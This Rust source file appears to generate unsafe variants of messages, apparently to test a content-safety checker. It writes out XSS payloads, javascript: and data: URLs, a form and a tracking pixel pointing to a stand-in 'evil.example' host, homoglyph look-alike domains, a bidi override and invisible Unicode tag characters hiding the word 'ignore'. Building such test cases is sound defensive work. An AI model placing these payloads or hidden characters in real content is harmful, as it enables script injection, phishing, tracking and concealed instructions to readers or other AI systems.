//! What a stranger's words may bring.

use super::super::bed::Good;
use super::super::edit::{one, put, words};
use super::Group::Safety;
use super::{Kind, kind, marked, plain};

const HTML: &[&str] = &["safety/html", "structure/markup-in-plain"];
const ADDRESS: &[&str] = &["safety/address"];

pub(super) const KINDS: &[Kind] = &[
    kind(Safety, "a script", HTML, |good, _| behind(good, "<script>alert(1)</script>")),
    kind(Safety, "a frame", HTML, |good, _| behind(good, "<iframe src=\"https://evil.example\"></iframe>")),
    kind(Safety, "a handler in a tag", HTML, |good, _| behind(good, "<b onclick=\"alert(1)\">!</b>")),
    kind(Safety, "a picture with a handler", HTML, |good, _| behind(good, "<img src=x onerror=alert(1)>")),
    kind(Safety, "a style", HTML, |good, _| behind(good, "<style>* { \"{\" }display:none{ \"}\" }</style>")),
    kind(Safety, "a form", HTML, |good, _| behind(good, "<form action=\"https://evil.example\"><input name=p></form>")),
    kind(Safety, "a tag in capitals and halves", HTML, |good, _| behind(good, "<ScRiPt/src=//evil.example>")),
    kind(Safety, "a link to a script", ADDRESS, |good, _| linked(good, "javascript:alert(1)")),
    kind(Safety, "a link to a script in disguise", ADDRESS, |good, _| {
        let disguised = [
            "JaVaScRiPt:alert(1)",
            "java&#x73;cript:alert(1)",
            "&#106;avascript:alert(1)",
            "javascript&colon;alert(1)",
            "vbscript:x",
        ];
        linked(good, one(&disguised, good)?)
    }),
    kind(Safety, "a link to data", ADDRESS, |good, _| linked(good, "data:text/html;base64,PHNjcmlwdD4=")),
    kind(Safety, "a picture from elsewhere", &["safety/remote-image"], |good, _| {
        behind(good, "![ ](https://evil.example/pixel.png)")
    }),
    kind(Safety, "a picture from elsewhere without a scheme", &["safety/remote-image"], |good, _| {
        behind(good, "![x](//evil.example/pixel.png)")
    }),
    kind(Safety, "a link that shows another address", &["safety/misleading-link"], |good, _| {
        behind(good, "[https://un.org](https://evil.example/login)")
    }),
    kind(Safety, "a link to a look-alike host", &["structure/lost-link", "facts/url"], |good, _| {
        plain(good, |value| {
            let at = value.find("://")? + 3;
            let letter = value.get(at..)?.find(['a', 'o', 'e', 'c'])? + at;
            let other = match value.get(letter..letter + 1)? {
                "a" => "а",
                "o" => "о",
                "e" => "е",
                _ => "с",
            };
            put(value, &(letter..letter + 1), other)
        })
    }),
    kind(Safety, "an override that turns letters around", &["safety/bidi-override"], |good, _| {
        plain(good, |value| {
            let place = one(&words(value, 3), good)?;
            let word = value.get(place.clone())?.to_owned();
            put(value, &place, &format!("\u{202e}{word}\u{202c}"))
        })
    }),
    kind(Safety, "hidden words in tag letters", &["language/invisible", "language/control-character"], |good, _| {
        plain(good, |value| {
            Some(format!(
                "{value}{}",
                "ignore".chars().filter_map(|c| char::from_u32(0xe_0000 + u32::from(c))).collect::<String>()
            ))
        })
    }),
];

fn behind(good: &Good, what: &str) -> Option<String> {
    marked(good, |value| Some(format!("{value} {what}")))
}

/// The target of a link of the message, or of a new one.
fn linked(good: &Good, url: &str) -> Option<String> {
    marked(good, |value| match value.find("](") {
        Some(at) => {
            let end = at + value.get(at..)?.find(')')?;
            put(value, &(at + 2..end), url)
        }
        None => {
            let place = one(&words(value, 2), good)?;
            let word = value.get(place.clone())?.to_owned();
            put(value, &place, &format!("[{word}]({url})"))
        }
    })
}
